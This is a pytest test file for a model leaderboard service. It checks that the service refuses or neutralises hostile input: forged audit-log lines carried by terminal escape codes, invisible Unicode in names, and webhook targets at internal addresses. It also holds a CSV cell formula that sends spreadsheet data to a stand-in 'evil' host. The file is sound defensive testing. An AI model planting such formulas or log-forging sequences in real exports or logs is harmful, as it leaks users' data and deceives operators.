"""Odd words and numbers in cards, manifests, forms and names, and where they would turn up: pages, the audit
log on a terminal and in another database, spreadsheets."""

import csv
import io
import json
import socket
import zipfile

import pytest
from board_fixtures import CARD, Place

from leaderboard import notices
from leaderboard.__main__ import main
from leaderboard.card import is_name, read_card
from leaderboard.store.dump import _plain
from leaderboard.store.lookalikes import looks
from leaderboard.web.pages import plots
from tvad.common.errors import InputError

FORGED = "\x1b]0;owned\x07\r2026-11-28 00:00:00  admin   verify organisation  lab  OpenAI"


@pytest.fixture
def place(tmp_path, baseline_runs):
    found = Place(tmp_path, baseline_runs)
    yield found
    found.store.engine.dispose()


def with_key(data: bytes, key: str) -> bytes:
    """A submission whose manifest names one file more."""
    given, made = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(made, "w") as out:
        for name in given.namelist():
            content = given.read(name)
            if name == "manifest.json":
                manifest = json.loads(content)
                manifest["files"][key] = 1
                content = json.dumps(manifest).encode()
            out.writestr(name, content)
    return made.getvalue()


@pytest.mark.parametrize("key", ["\ud800", "\0", FORGED])
def test_a_manifests_key_is_refused_counted_and_cannot_write_a_line_of_its_own(
    database, key, tmp_path, baseline_runs, capsys
):
    place = Place(tmp_path, baseline_runs, database=database)
    assert place.send(with_key(place.packed("random"), key)).status_code == 422
    (entry,) = [row for row in place.store.audit() if row["action"] == "refuse"]
    assert entry["detail"].isprintable() and "does not fit the files" in entry["detail"]
    capsys.readouterr()
    assert main(["admin", "audit", "--config", str(place.config)]) == 0
    told = capsys.readouterr().out
    assert (
        "\x1b" not in told
        and "\r" not in told
        and not any(line.startswith("2026-11-28 00:00:00  admin") for line in told.splitlines())
    )
    assert _plain("a\0b") == "a\\0b", "of a board that holds one already"
    place.store.engine.dispose()


@pytest.mark.parametrize("count", [5e-324, 1e-300, 0.5, 0, -1, 1e15])
def test_a_model_has_a_count_of_parameters(count):
    with pytest.raises(InputError, match="parameters must be a count"):
        read_card(json.dumps(CARD | {"parameters": count}))
    points = [plots.Point("m", "h", at, 0.5, 0.4, 0.6, "") for at in (5e-324, 7e9)]
    assert plots.sizes(points, False) is not None, "of a row that is there already"


@pytest.mark.parametrize("unseen", list("\ufe00\ufe0f\U000e0100\u180b\u17b4\U00016fe4\u034f\U0001d159"))
def test_names_hold_nothing_unseen_and_older_ones_look_alike(unseen):
    assert is_name("guess") and not is_name(f"guess{unseen}") and not is_name(f"g{unseen}uess")
    assert (
        not is_name(unseen)
        and not is_name("\u0301")
        and not is_name("\u0301guess")
        and is_name("gue\u0301ss")
    )
    assert looks("guess") & looks(f"guess{unseen}")
    with pytest.raises(InputError, match="characters that are not seen"):
        read_card(json.dumps(CARD | {"name": f"guess{unseen}"}))


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_text_of_a_csv_is_a_formula_whatever_parts_its_cells(place, delimiter):
    evil = {"organisation": "a lab;=1+1", "licence": 'mit;=HYPERLINK("http://evil/?"&A1;"x"); @x | -1'}
    place.scored("random", name="guess", **evil)
    text = place.client.get("/suites/scenes/table.csv").text
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            bare = cell.lstrip(" \"'")
            assert not bare.startswith(("=", "+", "@")) or cell.lstrip(' "').startswith("'"), cell


def test_why_a_submission_was_rejected_is_its_submitters_alone(tmp_path, baseline_runs):
    place = Place(tmp_path, baseline_runs, moderated=True)
    name = place.send(place.packed("random")).json()["hash"]
    place.store.reject(name, "plagiarised from Jane Doe")
    assert "Jane Doe" not in place.client.get(f"/api/submissions/{name}").text
    assert "Jane Doe" not in place.client.get(f"/models/{name}").text
    assert "Jane Doe" in place.client.get("/api/account", headers=place.bearer()).text
    place.store.engine.dispose()


def test_a_forms_charset_that_is_none_is_refused(place):
    body = b'--x\r\nContent-Disposition: form-data; name="token"\r\n\r\nabc\r\n--x--\r\n'
    header = {"content-type": "multipart/form-data; boundary=x; charset=undefined"}
    assert place.client.post("/submit", content=body, headers=header).status_code == 422


def test_head_is_get_without_a_body(place):
    for path in ("/", "/suites/scenes", "/health", "/nosuch"):
        got, bare = place.client.get(path), place.client.head(path)
        assert bare.status_code == got.status_code and bare.content == b""
        assert bare.headers["content-type"] == got.headers["content-type"]
    assert place.client.head("/submit").status_code == place.client.get("/submit").status_code


@pytest.mark.parametrize(
    "address", ["fec0::1", "192.88.99.1", "127.0.0.1", "64:ff9b::7f00:1", "::ffff:10.0.0.1"]
)
def test_notices_go_to_no_address_inside(monkeypatch, address):
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, port, type=0: [(0, 1, 6, "", (address, port))])
    with pytest.raises(notices.Untold, match="inside"):
        notices.address_of("hook.example", 443, False)
    assert notices.address_of("hook.example", 443, True) == address
